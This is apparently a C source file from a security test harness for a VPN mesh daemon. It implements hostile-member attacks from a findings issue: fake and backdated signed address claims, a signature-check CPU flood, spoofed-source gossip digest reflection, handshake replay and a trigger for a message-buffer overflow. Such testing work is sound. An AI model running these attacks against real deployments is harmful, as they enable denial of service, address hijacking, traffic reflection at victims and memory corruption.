// SPDX-License-Identifier: MIT
/*
 * nt_attack's hostile-member actions (issue 13, findings 1, 4, 5, 6 and 8): a member holds
 * the token and a session, so every frame below is authentic; what it can make the node
 * store, send or do must still be bounded by what it proved.
 *   oversize-relay  one ~30 KB datagram (IP-fragmented) whose plaintext is a RELAY
 *   fake-claims     "machines" claims by throw-away identities naming a victim's endpoints
 *   backdate        a claim on a live member's address with claimed_at 1, or just before it
 *                   (optionally as an update of a younger claim of ours)
 *   foreign-claim   a claim outside the VPN prefix, then packets from that address
 *   claim-many      many free addresses claimed under our own identity (a node has 4 at most)
 *   bad-sigs        gossip PUSHes of entries whose signatures are wrong, each costing the
 *                   node an Ed25519 verification and us nothing but random bytes
 *   spoof-digest    gossip DIGESTs sent with a victim's UDP source address
 *   init-replay     a valid INIT sent again once the node's replay cache has cycled
 *   want-edge       entries of its own sized so that the node's answer to a WANT fills
 *                   its message buffer to one byte short (a bug found on the way)
 * Ledger entries are made as src/ledger/ledger.c makes them (docs/ledger.md §1.1) and gossiped as
 * PUSH messages (docs/ledger.md §3), each at most 1200 bytes like the daemon's.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <stdio.h>
#include <string.h>

#include <sodium.h>

#include "attack.h"
#include "proto/control.h"

enum {
	CLAIM_VALUE_MAX = 700, /* below the ledger's default max_value (768) */
	/*
	 * Fake claims are padded to entries of 592-594 bytes: two fill a gossip message to at
	 * most 1196 of its 1200 bytes, so they never reach the edge that want-edge tests
	 * (a message filled to 1199 or 1200), and each scenario fails for its own hole.
	 */
	FAKE_VALUE_LEN = 450,
	ENDPOINTS_MAX = 4, /* what src/ledger/claims.c reads of a claim */
};

static const char machines[] = NT_LEDGER_MACHINES;

/*
 * A PUSH message being filled: u8 version | u8 type | u16 n | n x (u16 len | entry), and
 * what was sent so far (push_begin starts a message, not the counts).
 */
struct push {
	uint8_t buf[ATTACK_GOSSIP_MAX_MSG];
	size_t len;
	uint16_t n;
	unsigned int sent; /* messages */
	uint64_t sent_bytes; /* frames, as sent on the wire */
};

static void push_begin(struct push *p)
{
	p->buf[0] = NT_GOSSIP_VERSION;
	p->buf[1] = NT_GOSSIP_PUSH;
	p->len = NT_GOSSIP_HDR_LEN + 2;
	p->n = 0;
}

static int push_flush(struct harness *h, struct push *p)
{
	ssize_t n;

	if (!p->n)
		return 0;
	nt_put_be16(p->buf + NT_GOSSIP_HDR_LEN, p->n);
	n = attack_member_send(h, NT_CTRL_GOSSIP, p->buf, p->len);
	if (n < 0)
		return (int)n;
	p->sent++;
	p->sent_bytes += (uint64_t)n;
	push_begin(p);
	/* Give the node time to verify what it got: a burst would only overflow its socket. */
	attack_pump(h, 5);
	return 0;
}

static int push_add(struct harness *h, struct push *p, const uint8_t *entry, size_t len)
{
	int ret;

	if (p->len + 2 + len > sizeof(p->buf)) {
		ret = push_flush(h, p);
		if (ret < 0)
			return ret;
	}
	if (p->len + 2 + len > sizeof(p->buf))
		return -EMSGSIZE;
	nt_put_be16(p->buf + p->len, (uint16_t)len);
	memcpy(p->buf + p->len + 2, entry, len);
	p->len += 2 + len;
	p->n++;
	return 0;
}

/*
 * A signed entry, encoded into out: the signature is Ed25519 over "netron ledger v1" and
 * every byte before it (docs/ledger.md §1.1). The length, or -errno.
 */
static ssize_t entry_make(const char *bucket, const char *key, const void *value, size_t vlen,
			  const uint8_t pk[32], const uint8_t *sk, uint64_t claimed_at,
			  uint64_t expires_at, uint8_t *out, size_t cap)
{
	static const uint8_t unsigned_sig[NT_LEDGER_SIG_LEN];
	uint8_t msg[16 + ATTACK_GOSSIP_MAX_MSG];
	struct nt_ledger_entry e = {
		.bucket = bucket,
		.bucket_len = (uint8_t)strlen(bucket),
		.key = key,
		.key_len = (uint8_t)strlen(key),
		.value = value,
		.value_len = (uint16_t)vlen,
		.owner = pk,
		.sig = unsigned_sig,
		.version = nt_wall_ms(),
		.claimed_at = claimed_at,
		.expires_at = expires_at,
	};
	ssize_t n = nt_ledger_entry_encode(&e, out, cap);
	size_t body;

	if (n < 0)
		return n;
	body = (size_t)n - NT_LEDGER_SIG_LEN;
	if (16 + body > sizeof(msg))
		return -EMSGSIZE;
	memcpy(msg, "netron ledger v1", 16);
	memcpy(msg + 16, out, body);
	crypto_sign_detached(out + body, NULL, msg, 16 + body, sk);
	return n;
}

/*
 * A machine record like the daemon's (src/ledger/claims.c), naming the endpoints we choose; padded
 * to pad_to bytes when that is longer (0: no padding).
 */
static size_t machine_value(char *out, size_t cap, const uint8_t id[32], const char *const *eps,
			    unsigned int n_eps, size_t pad_to)
{
	char hex[65];
	size_t len;
	int n;

	nt_hex_encode(hex, id, 32);
	n = snprintf(out, cap,
		     "{\"id\":\"%s\",\"hostname\":\"nt-attack\",\"os\":\"Linux\",\"arch\":\"x86_64\","
		     "\"version\":\"attack\",\"port\":51830,\"prefix\":24,\"endpoints\":[",
		     hex);
	if (n < 0 || (size_t)n >= cap)
		return 0;
	len = (size_t)n;
	for (unsigned int i = 0; i < n_eps; i++) {
		n = snprintf(out + len, cap - len, "%s\"%s\"", i ? "," : "", eps[i]);
		if (n < 0 || (size_t)n >= cap - len)
			return 0;
		len += (size_t)n;
	}
	n = snprintf(out + len, cap - len, "]");
	if (n < 0 || (size_t)n >= cap - len)
		return 0;
	len += (size_t)n;
	/* ,"pad":"xx...x"} up to pad_to bytes in all */
	if (pad_to > len + 10 && pad_to < cap) {
		memcpy(out + len, ",\"pad\":\"", 8);
		memset(out + len + 8, 'x', pad_to - len - 10);
		len = pad_to - 2;
		out[len++] = '"';
	}
	if (len + 2 > cap)
		return 0;
	out[len++] = '}';
	out[len] = '\0';
	return len;
}

/* The relayed frame: any 0xE5 frame will do, the node copies it before anything else. */
int attack_oversize_relay(struct harness *h, const struct attack_args *a)
{
	static const char *const known[] = { "size", "target", NULL };
	static uint8_t body[ATTACK_DGRAM_MAX];
	const char *target = attack_opt(a, "target");
	uint8_t id[32];
	char id_short[NT_NODE_ID_SHORT_LEN + 1];
	uint64_t size;
	size_t flen;
	ssize_t n;

	if (!attack_args_check(a, "oversize-relay", known) || !attack_opt_u64(a, "size", 30000, &size))
		return -EINVAL;
	/* frame = datagram - header, inner type, RELAY header (version, ID) and tag */
	if (size < NT_DATA_OVERHEAD + 1 + NT_CTRL_RELAY_HDR + NT_DATA_MIN_LEN || size > 65000) {
		attack_error("oversize-relay: --size %llu out of range", (unsigned long long)size);
		return -EINVAL;
	}
	if (attack_member_join(h) < 0)
		return -ENOTCONN;
	if (target) {
		if (strlen(target) != 64 || !nt_hex_decode(id, 32, target)) {
			attack_error("oversize-relay: --target wants a 64-digit node ID");
			return -EINVAL;
		}
	} else {
		if (!attack_member_wait_members(h, 10000)) {
			attack_error("oversize-relay: the node named no other member to relay to");
			return -ENOENT;
		}
		memcpy(id, h->members[0], 32);
	}
	flen = size - NT_DATA_OVERHEAD - 1 - NT_CTRL_RELAY_HDR;
	nt_control_relay_header(body, id);
	randombytes_buf(body + NT_CTRL_RELAY_HDR, flen);
	memset(body + NT_CTRL_RELAY_HDR, 0, 4);
	body[NT_CTRL_RELAY_HDR] = NT_MSG_DATA;
	h->rx_node = (struct attack_counter){ 0 };
	n = attack_member_send(h, NT_CTRL_RELAY, body, NT_CTRL_RELAY_HDR + flen);
	if (n < 0) {
		attack_error("oversize-relay: send: %s", strerror((int)-n));
		return (int)n;
	}
	attack_pump(h, 2000);
	attack_report("oversize-relay", "sent=1 sent_bytes=%zd target=%s recv=%llu recv_bytes=%llu", n,
		      nt_node_id_short(id, id_short), (unsigned long long)h->rx_node.n,
		      (unsigned long long)h->rx_node.bytes);
	return 0;
}

int attack_fake_claims(struct harness *h, const struct attack_args *a)
{
	static const char *const known[] = { "first", "endpoint", "ttl", NULL };
	const char *eps[ENDPOINTS_MAX];
	unsigned int n_eps = attack_opt_all(a, "endpoint", eps, ENDPOINTS_MAX);
	const char *first = attack_opt(a, "first");
	union nt_sockaddr addr;
	struct push p;
	uint64_t count, ttl, made = 0;
	uint32_t next;
	int ret = 0;

	if (!attack_args_check(a, "fake-claims", known) || !attack_opt_u64(a, "ttl", 300, &ttl) ||
	    !attack_parse_u64(attack_pos(a, 0), &count)) {
		attack_error("fake-claims N [--first IP] [--endpoint IP:PORT]... [--ttl S]");
		return -EINVAL;
	}
	memset(&addr, 0, sizeof(addr));
	if (inet_pton(AF_INET, first ? first : "10.1.0.1", &addr.in4.sin_addr) != 1) {
		attack_error("fake-claims: --first %s is not an IPv4 address", first);
		return -EINVAL;
	}
	if (attack_member_join(h) < 0)
		return -ENOTCONN;
	memset(&p, 0, sizeof(p));
	push_begin(&p);
	next = ntohl(addr.in4.sin_addr.s_addr);
	while (made < count) {
		uint8_t pk[32], sk[64], entry[ATTACK_GOSSIP_MAX_MSG];
		char key[INET_ADDRSTRLEN], value[CLAIM_VALUE_MAX];
		struct in_addr in = { .s_addr = htonl(next) };
		uint64_t now = nt_wall_ms();
		size_t vlen;
		ssize_t n;

		next++;
		if ((ntohl(in.s_addr) & 0xff) == 0 || (ntohl(in.s_addr) & 0xff) == 255)
			continue; /* the addresses a member could hold in a /24 */
		inet_ntop(AF_INET, &in, key, sizeof(key));
		/* A new identity per claim: nothing ties a claim's owner to a handshake today. */
		crypto_sign_keypair(pk, sk);
		vlen = machine_value(value, sizeof(value), pk, eps, n_eps, FAKE_VALUE_LEN);
		n = vlen ? entry_make(machines, key, value, vlen, pk, sk, now, now + ttl * 1000, entry,
				      sizeof(entry)) :
			   -EMSGSIZE;
		sodium_memzero(sk, sizeof(sk));
		/* In our replica too: our gossip must not ask the node for what we made. */
		if (n > 0)
			nt_ledger_insert(h->ledger, entry, (size_t)n, now);
		if (n < 0 || (ret = push_add(h, &p, entry, (size_t)n)) < 0) {
			attack_error("fake-claims: claim %llu: %s", (unsigned long long)made,
				     strerror(n < 0 ? (int)-n : -ret));
			return n < 0 ? (int)n : ret;
		}
		made++;
	}
	ret = push_flush(h, &p);
	if (ret < 0)
		return ret;
	attack_pump(h, 1000);
	attack_report("fake-claims", "claims=%llu endpoints=%u sent=%u sent_bytes=%llu",
		      (unsigned long long)made, n_eps, p.sent, (unsigned long long)p.sent_bytes);
	return 0;
}

/* Our own claim on key, signed by our member identity, pushed to the node. */
static int claim_as_us(struct harness *h, const char *key, uint64_t claimed_at)
{
	uint8_t entry[ATTACK_GOSSIP_MAX_MSG];
	char value[CLAIM_VALUE_MAX];
	size_t vlen = machine_value(value, sizeof(value), h->id->ed_pk, NULL, 0, 0);
	uint64_t now = nt_wall_ms();
	struct push p;
	ssize_t n;
	int ret;

	n = entry_make(machines, key, value, vlen, h->id->ed_pk, h->id->ed_sk, claimed_at,
		       now + 300 * 1000, entry, sizeof(entry));
	if (n < 0)
		return (int)n;
	nt_ledger_insert(h->ledger, entry, (size_t)n, now);
	memset(&p, 0, sizeof(p));
	push_begin(&p);
	ret = push_add(h, &p, entry, (size_t)n);
	return ret < 0 ? ret : push_flush(h, &p);
}

/* Waits up to ms for our replica to hold another member's live claim on key. */
static const struct nt_ledger_entry *wait_claim(struct harness *h, const char *key, uint64_t ms)
{
	uint64_t deadline = nt_now_ms() + ms;
	const struct nt_ledger_entry *e;

	for (;;) {
		e = nt_ledger_get(h->ledger, machines, key);
		if ((e && memcmp(e->owner, h->id->ed_pk, 32)) || nt_now_ms() >= deadline)
			break;
		attack_pump(h, 200);
	}
	return e && memcmp(e->owner, h->id->ed_pk, 32) ? e : NULL;
}

/*
 * --update 1: first an honest-looking claim made now (younger than the holder's, so every
 * node keeps it as a losing claim), then the back-dated one as a new version of it: an
 * owner's update is not a new owner for the key.
 */
int attack_backdate(struct harness *h, const struct attack_args *a)
{
	static const char *const known[] = { "claimed-at", "update", NULL };
	const char *key = attack_pos(a, 0), *mode = attack_opt(a, "claimed-at");
	const struct nt_ledger_entry *e;
	struct in_addr in;
	char holder[NT_NODE_ID_SHORT_LEN + 1];
	uint64_t claimed_at = 1, held_since, update;
	int ret;

	if (!attack_args_check(a, "backdate", known) || !key || inet_pton(AF_INET, key, &in) != 1 ||
	    (mode && strcmp(mode, "1") && strcmp(mode, "before")) ||
	    !attack_opt_u64(a, "update", 0, &update)) {
		attack_error("backdate ADDR [--claimed-at 1|before] [--update 1]");
		return -EINVAL;
	}
	if (attack_member_join(h) < 0)
		return -ENOTCONN;
	/* What the holder claimed, as the ledger gossips it to any member. */
	e = wait_claim(h, key, 20000);
	if (!e) {
		attack_error("backdate: no member's claim on %s reached us", key);
		return -ENOENT;
	}
	nt_node_id_short(e->owner, holder);
	held_since = e->claimed_at;
	if (mode && !strcmp(mode, "before"))
		claimed_at = held_since - 1000;
	if (update) {
		ret = claim_as_us(h, key, nt_wall_ms());
		if (ret < 0) {
			attack_error("backdate: first claim: %s", strerror(-ret));
			return ret;
		}
		attack_pump(h, 3000); /* past the race window: it is a losing claim everywhere */
	}
	ret = claim_as_us(h, key, claimed_at);
	if (ret < 0) {
		attack_error("backdate: %s", strerror(-ret));
		return ret;
	}
	attack_pump(h, 2000);
	attack_report("backdate", "addr=%s claimed_at=%llu holder=%s holder_claimed_at=%llu update=%d",
		      key, (unsigned long long)claimed_at, holder, (unsigned long long)held_since,
		      update != 0);
	return 0;
}

/*
 * Free addresses, as many as the ledger lets one owner hold, under our own (proven)
 * identity: an honest node claims the addresses it has, 4 at most (NT_MAX_ADDRESSES).
 */
int attack_claim_many(struct harness *h, const struct attack_args *a)
{
	static const char *const known[] = { "first", NULL };
	const char *first = attack_opt(a, "first");
	char value[CLAIM_VALUE_MAX];
	size_t vlen;
	struct in_addr in;
	struct push p;
	uint64_t count, made = 0;
	uint32_t next;
	int ret;

	if (!attack_args_check(a, "claim-many", known) || !attack_parse_u64(attack_pos(a, 0), &count) ||
	    inet_pton(AF_INET, first ? first : "10.1.0.193", &in) != 1) {
		attack_error("claim-many N [--first IP]");
		return -EINVAL;
	}
	if (attack_member_join(h) < 0)
		return -ENOTCONN;
	vlen = machine_value(value, sizeof(value), h->id->ed_pk, NULL, 0, 0);
	memset(&p, 0, sizeof(p));
	push_begin(&p);
	for (next = ntohl(in.s_addr); made < count; next++) {
		uint8_t entry[ATTACK_GOSSIP_MAX_MSG];
		struct in_addr x = { .s_addr = htonl(next) };
		uint64_t now = nt_wall_ms();
		char key[INET_ADDRSTRLEN];
		ssize_t n;

		if ((next & 0xff) == 0 || (next & 0xff) == 255)
			continue;
		inet_ntop(AF_INET, &x, key, sizeof(key));
		n = entry_make(machines, key, value, vlen, h->id->ed_pk, h->id->ed_sk, now,
			       now + 300 * 1000, entry, sizeof(entry));
		if (n > 0)
			nt_ledger_insert(h->ledger, entry, (size_t)n, now);
		if (n < 0 || (ret = push_add(h, &p, entry, (size_t)n)) < 0) {
			attack_error("claim-many: claim %llu: %s", (unsigned long long)made,
				     strerror(n < 0 ? (int)-n : -ret));
			return n < 0 ? (int)n : ret;
		}
		made++;
	}
	ret = push_flush(h, &p);
	if (ret < 0)
		return ret;
	attack_pump(h, 2000);
	attack_report("claim-many", "claims=%llu first=%s sent=%u sent_bytes=%llu",
		      (unsigned long long)made, first ? first : "10.1.0.193", p.sent,
		      (unsigned long long)p.sent_bytes);
	return 0;
}

/*
 * bad-sigs: entries of the smallest size under our own key (a valid point, so each
 * verification runs to the end), each on a key nobody holds, with a random signature.
 * Every check before the signature passes, so the node verifies each one, refuses it and
 * remembers nothing: the same costs it again. --type sends the same bytes under another
 * control type (127: one the node does not know), to compare with what they cost it then.
 */
int attack_bad_sigs(struct harness *h, const struct attack_args *a)
{
	static const char *const known[] = { "rate", "duration", "type", NULL };
	uint64_t rate, duration, total, entries = 0, t0, type;
	struct push p;
	int ret;

	if (!attack_args_check(a, "bad-sigs", known) || !attack_opt_u64(a, "rate", 200, &rate) ||
	    !attack_opt_u64(a, "duration", 10, &duration) ||
	    !attack_opt_u64(a, "type", NT_CTRL_GOSSIP, &type) || rate == 0 || type < 2 || type > 255)
		return -EINVAL;
	if (attack_member_join(h) < 0)
		return -ENOTCONN;
	memset(&p, 0, sizeof(p));
	push_begin(&p);
	t0 = nt_now_ms();
	total = rate * duration;
	while (p.sent < total) {
		static const uint8_t sig[NT_LEDGER_SIG_LEN];
		uint8_t entry[NT_LEDGER_WIRE_FIXED + 16];
		uint64_t now = nt_wall_ms(), due = t0 + (uint64_t)p.sent * 1000 / rate;
		char key[16];
		struct nt_ledger_entry e = {
			.bucket = "x",
			.bucket_len = 1,
			.key = key,
			.owner = h->id->ed_pk,
			.sig = sig,
			.version = now,
			.claimed_at = now,
			.expires_at = now + 60000,
		};
		ssize_t n;

		snprintf(key, sizeof(key), "%08x", randombytes_random());
		e.key_len = (uint8_t)strlen(key);
		n = nt_ledger_entry_encode(&e, entry, sizeof(entry));
		if (n < 0)
			return (int)n;
		randombytes_buf(entry + n - NT_LEDGER_SIG_LEN, NT_LEDGER_SIG_LEN);
		/* S below the group order, as in any signature: the check must be computed. */
		entry[n - 1] &= 0x0f;
		if (p.len + 2 + (size_t)n > sizeof(p.buf)) {
			/* Paced, and without push_flush's pause: we want the node's CPU, not its socket. */
			if (nt_now_ms() < due)
				attack_pump(h, due - nt_now_ms());
			nt_put_be16(p.buf + NT_GOSSIP_HDR_LEN, p.n);
			n = attack_member_send(h, (uint8_t)type, p.buf, p.len);
			if (n < 0)
				return (int)n;
			p.sent++;
			p.sent_bytes += (uint64_t)n;
			push_begin(&p);
			continue;
		}
		ret = push_add(h, &p, entry, (size_t)n);
		if (ret < 0)
			return ret;
		entries++;
	}
	attack_pump(h, 500);
	attack_report("bad-sigs", "msgs=%u entries=%llu sent_bytes=%llu seconds=%llu", p.sent,
		      (unsigned long long)(entries - p.n), (unsigned long long)p.sent_bytes,
		      (unsigned long long)((nt_now_ms() - t0) / 1000));
	return 0;
}

/* An ICMP echo request from src to dst, IPv4 with both checksums. The length. */
static size_t icmp_echo(uint8_t *pkt, struct in_addr src, struct in_addr dst, uint16_t seq)
{
	size_t len = 20 + 8 + 32;

	memset(pkt, 0, len);
	pkt[0] = 0x45;
	nt_put_be16(pkt + 2, (uint16_t)len);
	pkt[8] = 64;
	pkt[9] = 1; /* ICMP */
	memcpy(pkt + 12, &src, 4);
	memcpy(pkt + 16, &dst, 4);
	pkt[20] = 8; /* echo request */
	nt_put_be16(pkt + 24, 0x6e74);
	nt_put_be16(pkt + 26, seq);
	memset(pkt + 28, 0xa5, 32);
	for (int part = 0; part < 2; part++) {
		const uint8_t *p = part ? pkt + 20 : pkt;
		size_t n = part ? len - 20 : 20;
		uint32_t sum = 0;

		for (size_t i = 0; i + 1 < n; i += 2)
			sum += (uint32_t)(p[i] << 8 | p[i + 1]);
		while (sum >> 16)
			sum = (sum & 0xffff) + (sum >> 16);
		nt_put_be16(pkt + (part ? 22 : 10), (uint16_t)~sum);
	}
	return len;
}

int attack_foreign_claim(struct harness *h, const struct attack_args *a)
{
	static const char *const known[] = { "dst", "count", NULL };
	const char *key = attack_pos(a, 0), *dst_text = attack_opt(a, "dst");
	struct in_addr src, dst;
	uint8_t pkt[64];
	uint64_t count, sent = 0;
	int ret;

	if (!attack_args_check(a, "foreign-claim", known) || !attack_opt_u64(a, "count", 5, &count) ||
	    !key || inet_pton(AF_INET, key, &src) != 1 ||
	    inet_pton(AF_INET, dst_text ? dst_text : "10.1.0.1", &dst) != 1) {
		attack_error("foreign-claim ADDR [--dst IP] [--count N]");
		return -EINVAL;
	}
	if (attack_member_join(h) < 0)
		return -ENOTCONN;
	ret = claim_as_us(h, key, nt_wall_ms());
	if (ret < 0) {
		attack_error("foreign-claim: %s", strerror(-ret));
		return ret;
	}
	/* Time for the node to take the claim into its routes, if it does. */
	attack_pump(h, 2000);
	for (uint64_t i = 0; i < count; i++) {
		size_t len = icmp_echo(pkt, src, dst, (uint16_t)i);
		if (attack_member_send(h, NT_DATA_INNER_IP, pkt, len) > 0)
			sent++;
		attack_pump(h, 200);
	}
	attack_pump(h, 1000);
	attack_report("foreign-claim", "addr=%s dst=%s sent_packets=%llu ip_packets_in=%llu", key,
		      dst_text ? dst_text : "10.1.0.1", (unsigned long long)sent,
		      (unsigned long long)h->rx_ip.n);
	return 0;
}

int attack_spoof_digest(struct harness *h, const struct attack_args *a)
{
	static const char *const known[] = { "as", "count", "interval", "fill", NULL };
	union nt_sockaddr as;
	uint64_t count, interval, fill, sent = 0, sent_bytes = 0;
	uint8_t digest[NT_GOSSIP_HDR_LEN + NT_LEDGER_HASH_LEN + 4];
	int ret;

	if (!attack_args_check(a, "spoof-digest", known) ||
	    !attack_parse_v4("--as", attack_opt(a, "as"), &as) ||
	    !attack_opt_u64(a, "count", 20, &count) || !attack_opt_u64(a, "interval", 500, &interval) ||
	    !attack_opt_u64(a, "fill", 64, &fill))
		return -EINVAL;
	if (attack_member_join(h) < 0)
		return -ENOTCONN;
	/*
	 * What any member may store: entries of its own, up to the ledger's per-owner cap.
	 * They make the node's SUMMARY long, which is what the victim would get.
	 */
	for (uint64_t i = 0; i < fill; i++) {
		char key[32], value[128];
		snprintf(key, sizeof(key), "k%llu", (unsigned long long)i);
		memset(value, 'v', sizeof(value));
		ret = nt_ledger_put_local(h->ledger, h->id, "attack", key, value, sizeof(value),
					  300 * 1000, nt_wall_ms(), NULL);
		if (ret < 0 && ret != -EDQUOT) {
			attack_error("spoof-digest: filling the ledger: %s", strerror(-ret));
			return ret;
		}
		attack_pump(h, 5);
	}
	attack_pump(h, 3000);
	for (uint64_t i = 0; i < count; i++) {
		ssize_t n;

		/* A digest unlike the node's: it answers with its summary (and its own digest). */
		digest[0] = NT_GOSSIP_VERSION;
		digest[1] = NT_GOSSIP_DIGEST;
		randombytes_buf(digest + NT_GOSSIP_HDR_LEN, sizeof(digest) - NT_GOSSIP_HDR_LEN);
		n = attack_member_seal(h, NT_CTRL_GOSSIP, digest, sizeof(digest));
		if (n < 0 || (ret = attack_send_as(h, &as, &h->node, h->tx, (size_t)n)) < 0) {
			attack_error("spoof-digest: send: %s", strerror(n < 0 ? (int)-n : -ret));
			return n < 0 ? (int)n : ret;
		}
		sent++;
		sent_bytes += (uint64_t)n;
		attack_pump(h, interval);
	}
	/* Back at our own address: the node's frames for us come to us again. */
	attack_member_send(h, NT_DATA_INNER_KEEPALIVE, NULL, 0);
	attack_pump(h, 1000);
	attack_report("spoof-digest", "as=%s:%u sent=%llu sent_bytes=%llu fill=%llu",
		      inet_ntoa(as.in4.sin_addr), ntohs(as.in4.sin_port), (unsigned long long)sent,
		      (unsigned long long)sent_bytes, (unsigned long long)fill);
	return 0;
}

/* init-replay: the answers (RESP or COOKIE_REPLY) to one INIT, by its sender index. */
static uint32_t replay_index;
static struct attack_counter replay_answers;
static uint64_t replay_others_resp, replay_others_cookie; /* answers to the cycling INITs */

static void replay_tap(struct harness *h, const uint8_t *buf, size_t len, const union nt_sockaddr *from)
{
	(void)h;
	(void)from;
	if (len == NT_HS_RESP_LEN && buf[0] == NT_HS_MSG_RESP && nt_get_le32(buf + 8) != replay_index)
		replay_others_resp++;
	else if (len == NT_HS_COOKIE_REPLY_LEN && buf[0] == NT_HS_MSG_COOKIE_REPLY &&
		 nt_get_le32(buf + 4) != replay_index)
		replay_others_cookie++;
	if (len == NT_HS_RESP_LEN && buf[0] == NT_HS_MSG_RESP && nt_get_le32(buf + 8) == replay_index) {
		replay_answers.n++;
		replay_answers.bytes += len;
	} else if (len == NT_HS_COOKIE_REPLY_LEN && buf[0] == NT_HS_MSG_COOKIE_REPLY &&
		   nt_get_le32(buf + 4) == replay_index) {
		replay_answers.n++;
		replay_answers.bytes += len;
	}
}

int attack_init_replay(struct harness *h, const struct attack_args *a)
{
	static const char *const known[] = { "count", "rate", "from", "sources", NULL };
	const char *from = attack_opt(a, "from");
	struct nt_handshake hs = { 0 };
	uint8_t first[NT_HS_INIT_LEN], init[NT_HS_INIT_LEN];
	union nt_sockaddr base;
	uint64_t count, rate, sources, sent = 0, first_answers;
	uint64_t t0;
	int ret;

	if (!attack_args_check(a, "init-replay", known) || !attack_opt_u64(a, "count", 4096, &count) ||
	    !attack_opt_u64(a, "rate", 150, &rate) || !attack_opt_u64(a, "sources", 32, &sources) ||
	    rate == 0 || sources == 0)
		return -EINVAL;
	memset(&base, 0, sizeof(base));
	base.in4.sin_family = AF_INET;
	base.in4.sin_port = h->local.in4.sin_port;
	if (inet_pton(AF_INET, from ? from : "203.0.113.1", &base.in4.sin_addr) != 1) {
		attack_error("init-replay: --from wants an IPv4 address");
		return -EINVAL;
	}
	ret = attack_net_load(h);
	if (ret < 0)
		return ret;
	ret = nt_handshake_init(&hs);
	if (ret < 0)
		return ret;
	/* The INIT an eavesdropper captured: valid, answered once. */
	replay_index = randombytes_random() | 1;
	ret = nt_handshake_create_init(&hs, &h->hs_local, replay_index, nt_wall_ms(), nt_now_ms(), first);
	if (ret < 0)
		goto out;
	replay_answers = (struct attack_counter){ 0 };
	replay_others_resp = replay_others_cookie = 0;
	h->tap = replay_tap;
	ret = attack_send(h, first, sizeof(first), &h->node);
	if (ret < 0)
		goto out;
	attack_pump(h, 1500);
	first_answers = replay_answers.n;
	/*
	 * Other valid INITs from fresh ephemerals push it out of the replay cache. They come
	 * from several sources, each within the node's per-source handshake rate, and all of
	 * them below its "under load" threshold, so each one is taken in (and remembered).
	 */
	t0 = nt_now_ms();
	for (uint64_t i = 0; i < count; i++) {
		union nt_sockaddr src = attack_v4_add(&base, (uint32_t)(i % sources));
		uint64_t due = t0 + i * 1000 / rate;

		if (nt_now_ms() < due)
			attack_pump(h, due - nt_now_ms());
		ret = nt_handshake_create_init(&hs, &h->hs_local, randombytes_random() | 1, nt_wall_ms(),
					       nt_now_ms(), init);
		if (ret < 0)
			goto out;
		ret = attack_send_as(h, &src, &h->node, init, sizeof(init));
		if (ret < 0) {
			attack_error("init-replay: send from %s: %s", inet_ntoa(src.in4.sin_addr),
				     strerror(-ret));
			goto out;
		}
		sent++;
	}
	attack_pump(h, 1000);
	replay_answers = (struct attack_counter){ 0 };
	ret = attack_send(h, first, sizeof(first), &h->node);
	if (ret < 0)
		goto out;
	attack_pump(h, 3000);
	attack_report("init-replay", "first_answers=%llu cycled=%llu sources=%llu cycled_resp=%llu "
		      "cycled_cookie=%llu replay_answers=%llu replay_answer_bytes=%llu age_s=%llu",
		      (unsigned long long)first_answers, (unsigned long long)sent,
		      (unsigned long long)sources, (unsigned long long)replay_others_resp,
		      (unsigned long long)replay_others_cookie, (unsigned long long)replay_answers.n,
		      (unsigned long long)replay_answers.bytes,
		      (unsigned long long)((nt_now_ms() - t0) / 1000));
out:
	h->tap = NULL;
	nt_handshake_uninit(&hs);
	if (ret < 0)
		attack_error("init-replay: %s", strerror(-ret));
	return ret;
}

/*
 * want-edge: entries of our own (two, then ten more), sized so that the node's ENTRIES
 * answer to our WANT holds max_msg - 1 bytes after the first two. The room left for the
 * next entry, max_msg - len - 2, then wraps below zero (src/ledger/gossip.c, append_entry) and the
 * rest are written past the message buffer. Any member can do this with its own entries;
 * honest entries of the wrong sizes do it too.
 */
int attack_want_edge(struct harness *h, const struct attack_args *a)
{
	static const char *const known[] = { "fill-to", NULL };
	/* bucket "edge", keys "e00".."e11": each entry is 126 + 4 + 3 + value bytes */
	enum { ENTRY_FIXED = NT_LEDGER_WIRE_FIXED + 4 + 3, MORE = 10, BIG = 700 };
	uint8_t want[NT_GOSSIP_HDR_LEN + 2 + (2 + MORE) * 8];
	uint8_t value[BIG];
	uint64_t fill_to, v2;
	unsigned int n = 0;
	ssize_t sent;
	int ret;

	if (!attack_args_check(a, "want-edge", known) || !attack_opt_u64(a, "fill-to", 1199, &fill_to))
		return -EINVAL;
	/* ENTRIES: header (4), then (u16 length, entry) records */
	v2 = fill_to - 4 - 2 * (2 + ENTRY_FIXED) - BIG;
	if (fill_to > ATTACK_GOSSIP_MAX_MSG || v2 > BIG) {
		attack_error("want-edge: --fill-to %llu out of range", (unsigned long long)fill_to);
		return -EINVAL;
	}
	if (attack_member_join(h) < 0)
		return -ENOTCONN;
	memset(value, 'w', sizeof(value));
	want[0] = NT_GOSSIP_VERSION;
	want[1] = NT_GOSSIP_WANT;
	for (unsigned int i = 0; i < 2 + MORE; i++) {
		const struct nt_ledger_entry *e;
		char key[4];

		snprintf(key, sizeof(key), "e%02u", i);
		ret = nt_ledger_put_local(h->ledger, h->id, "edge", key, value, i == 1 ? v2 : BIG,
					  300 * 1000, nt_wall_ms(), &e);
		if (ret < 0) {
			attack_error("want-edge: our entry %s: %s", key, strerror(-ret));
			return ret;
		}
		nt_put_be64(want + NT_GOSSIP_HDR_LEN + 2 + 8 * n++, nt_ledger_entry_id(h->ledger, e));
		attack_pump(h, 20);
	}
	nt_put_be16(want + NT_GOSSIP_HDR_LEN, (uint16_t)n);
	/* The pushes reach the node and settle before the WANT asks for them in this order. */
	attack_pump(h, 2000);
	h->rx_node = (struct attack_counter){ 0 };
	sent = attack_member_send(h, NT_CTRL_GOSSIP, want, sizeof(want));
	if (sent < 0) {
		attack_error("want-edge: send: %s", strerror((int)-sent));
		return (int)sent;
	}
	attack_pump(h, 2000);
	attack_report("want-edge", "entries=%u fill_to=%llu sent_bytes=%zd recv=%llu recv_bytes=%llu", n,
		      (unsigned long long)fill_to, sent, (unsigned long long)h->rx_node.n,
		      (unsigned long long)h->rx_node.bytes);
	return 0;
}
